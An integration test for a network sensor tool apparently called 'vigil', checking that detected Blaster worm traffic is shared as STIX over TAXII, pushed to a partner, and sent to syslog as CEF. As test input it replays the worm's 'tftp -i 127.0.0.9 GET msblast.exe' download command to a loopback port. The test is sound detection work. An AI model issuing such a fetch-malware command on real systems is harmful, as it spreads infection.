// Sharing from a running node: live sensor traffic (an MS03-026-shaped activation with inert filler,
// then Blaster's tftp command on 4444) becomes STIX in the node's TAXII collection, read back over a
// real socket; the same objects are pushed to a partner's TAXII server; the alerts reach a loopback
// syslog collector as RFC 5424 + CEF; afterwards `vigil share export` writes the same ids every time.

import { test } from 'node:test';
import assert from 'node:assert/strict';
import { createServer } from 'node:net';
import { pino } from 'pino';
import { Registry } from 'prom-client';
import { loadConfig } from '../../src/cli/config.js';
import { startNode } from '../../src/cli/node.js';
import { buildServer } from '../../src/server/app.js';
import { taxiiPlugin } from '../../src/server/routes/taxii.js';
import { TaxiiClient } from '../../src/share/taxii/taxii-client.js';
import { collectionId, TaxiiService } from '../../src/share/taxii/taxii-service.js';
import { activationCall, deliveryVariants } from '../helpers/delivery-variants.js';
import { skipWithoutBuild, vigil } from '../helpers/cli.js';
import { HAS_CORPUS } from '../helpers/paths.js';
import { RFC5424 } from '../share/rfc5424.js';
import { loadStixValidator } from '../share/stix-schemas.js';
import { freePort, tempDir, deliver } from './up-helpers.js';

async function poll<T>(fn: () => Promise<T | undefined> | T | undefined, what: string): Promise<T> {
  for (let i = 0; i < 400; i++) {
    const v = await fn();
    if (v !== undefined) return v;
    await new Promise((r) => setTimeout(r, 25));
  }
  throw new Error(`timed out waiting for ${what}`);
}

test('vigil up shares its alerts: TAXII collection, push to a partner, syslog CEF; vigil share export is idempotent', { skip: skipWithoutBuild }, async () => {
  // The partner: another TAXII 2.1 server on loopback with an inbox this node may write.
  const partner = new TaxiiService({ title: 'Partner CERT', apiRoot: 'vigil', collections: [{ alias: 'partner-inbox', title: 'inbox' }] });
  const partnerApp = await buildServer({ store: {} as never, registry: new Registry(), token: 'partner-admin-token-0123456789', routes: [taxiiPlugin({ service: partner, prefix: '/taxii2', apiToken: () => 'partner-admin-token-0123456789', users: [{ name: 'node-a', token: 'node-a-token-0123456789', read: [], write: ['partner-inbox'] }] })] });
  const partnerBase = await partnerApp.listen({ host: '127.0.0.1', port: 0 });
  const inboxUrl = `${partnerBase}/taxii2/vigil/collections/${collectionId('partner-inbox')}/`;
  // The SIEM's syslog collector (TCP, octet counting).
  const syslog: string[] = [];
  const collector = createServer((s) => {
    let buf = Buffer.alloc(0);
    s.on('data', (c) => {
      buf = Buffer.concat([buf, c]);
      for (let sp = buf.indexOf(0x20); sp > 0; sp = buf.indexOf(0x20)) {
        const len = Number(buf.subarray(0, sp).toString());
        if (buf.length < sp + 1 + len) break;
        syslog.push(buf.subarray(sp + 1, sp + 1 + len).toString());
        buf = buf.subarray(sp + 1 + len);
      }
    });
  });
  await new Promise<void>((r) => collector.listen(0, '127.0.0.1', () => r()));
  const collectorPort = (collector.address() as { port: number }).port;

  const dataDir = tempDir('node-share');
  const config = loadConfig({
    env: {},
    flags: {
      dataDir, http: { host: '127.0.0.1', port: await freePort() }, sensor: { ports: [135, 4444] }, log: { level: 'silent' },
      alerts: { syslog: [{ name: 'siem', host: '127.0.0.1', port: collectorPort, transport: 'tcp' }] },
      share: { organization: 'Example CERT', sensorName: 'sensor-a', tlp: 'green', taxii: { push: [{ name: 'partner', url: inboxUrl, token: 'node-a-token-0123456789' }] } },
    },
  });
  const n = await startNode(config, { ephemeralPorts: true, sensorHosts: ['127.0.0.1'], logger: pino({ level: 'silent' }) });
  const sightingsUrl = `http://${n.httpAddress}/taxii2/vigil/collections/${collectionId('vigil-sightings')}/`;
  try {
    const variant = deliveryVariants(activationCall('RemoteActivation'))[0]!;
    await deliver(n.sensor.portFor(135)!, variant.chunks);
    await deliver(n.sensor.portFor(4444)!, [Buffer.from('tftp -i 127.0.0.9 GET msblast.exe\r\n')]);
    const client = new TaxiiClient({ collectionUrl: sightingsUrl, auth: { token: n.token } });
    const objects = await poll(async () => {
      const r = await client.pull();
      return r.objects.some((o) => o.type === 'malware') && r.objects.some((o) => o.type === 'sighting') ? r.objects : undefined;
    }, 'Blaster and sightings in the TAXII collection');
    const blaster = objects.find((o) => o.type === 'malware')!;
    assert.equal(blaster.name, 'Blaster');
    const sensor = objects.find((o) => o.type === 'identity' && o.identity_class === 'system')!;
    assert.equal(sensor.name, 'sensor-a');
    assert.ok(objects.filter((o) => o.type === 'sighting').every((s) => (s.where_sighted_refs as string[])[0] === sensor.id));
    assert.equal(new Set(objects.map((o) => o.id)).size, objects.length, 'one version each (no duplicates in the latest view)');
    if (HAS_CORPUS) {
      const v = loadStixValidator();
      for (const o of objects) assert.equal(v.check(o), undefined, o.id);
    }
    // Pushed to the partner: the same ids.
    const partnerView = new TaxiiClient({ collectionUrl: inboxUrl, auth: { token: 'partner-admin-token-0123456789' } });
    const pushed = await poll(async () => {
      const r = await partnerView.pull();
      return r.objects.some((o) => o.type === 'malware') ? r.objects : undefined;
    }, 'objects pushed to the partner');
    assert.deepEqual(new Set(pushed.map((o) => o.id)), new Set(objects.map((o) => o.id)));
    // Syslog: each routed alert as one RFC 5424 message carrying CEF.
    await poll(() => (syslog.some((m) => m.includes('exploit_followup_command')) ? true : undefined), 'the follow-up alert at the collector');
    for (const m of syslog) {
      const p = RFC5424.exec(m);
      assert.ok(p, m);
      assert.equal(p[3], 'sensor-a');
      assert.match(p[8]!, /^CEF:0\|Vigil\|Vigil\|/);
    }
  } finally {
    await n.stop();
    await partnerApp.close();
    collector.close();
  }

  // After the node: export what the store holds; twice, the same bytes.
  const env = { VIGIL_SHARE_ORGANIZATION: 'Example CERT', VIGIL_SHARE_SENSOR_NAME: 'sensor-a', VIGIL_SHARE_TLP: 'green' };
  const a = vigil(['share', 'export', '--format', 'stix', '--data-dir', dataDir], env);
  assert.equal(a.code, 0, a.stderr);
  const b = vigil(['share', 'export', '--format', 'stix', '--data-dir', dataDir], env);
  assert.equal(b.stdout, a.stdout);
  const bundle = JSON.parse(a.stdout) as { type: string; objects: { type: string; id: string }[] };
  assert.equal(bundle.type, 'bundle');
  assert.ok(bundle.objects.some((o) => o.type === 'malware'));
  if (HAS_CORPUS) {
    const v = loadStixValidator();
    assert.equal(v.checkBundle(bundle), undefined);
    for (const o of bundle.objects) assert.equal(v.check(o), undefined, o.id);
  }
  for (const format of ['ecs', 'cef', 'syslog', 'eve']) {
    const r = vigil(['share', 'export', '--format', format, '--data-dir', dataDir], env);
    assert.equal(r.code, 0, r.stderr);
    assert.ok(r.stdout.trim().split('\n').length >= 2, `${format}: ${r.stdout}`);
  }
  for (const format of ['ecs', 'eve']) {
    const r = vigil(['share', 'export', '--format', format, '--sessions', '--data-dir', dataDir], env);
    assert.equal(r.code, 0, r.stderr);
    const lines = r.stdout.trim().split('\n').map((l) => JSON.parse(l) as Record<string, unknown>);
    assert.ok(lines.length >= 2, `${format} sessions: ${r.stdout}`);
    if (format === 'eve') assert.ok(lines.every((l) => l.event_type === 'flow' && l.dest_ip === '127.0.0.1'));
    else assert.ok(lines.every((l) => (l.event as { dataset: string }).dataset === 'vigil.session'));
  }
  assert.equal(vigil(['share', 'export', '--format', 'stix', '--sessions', '--data-dir', dataDir]).code, 2);
  assert.equal(vigil(['share', 'export', '--format', 'xml', '--data-dir', dataDir]).code, 2);
});
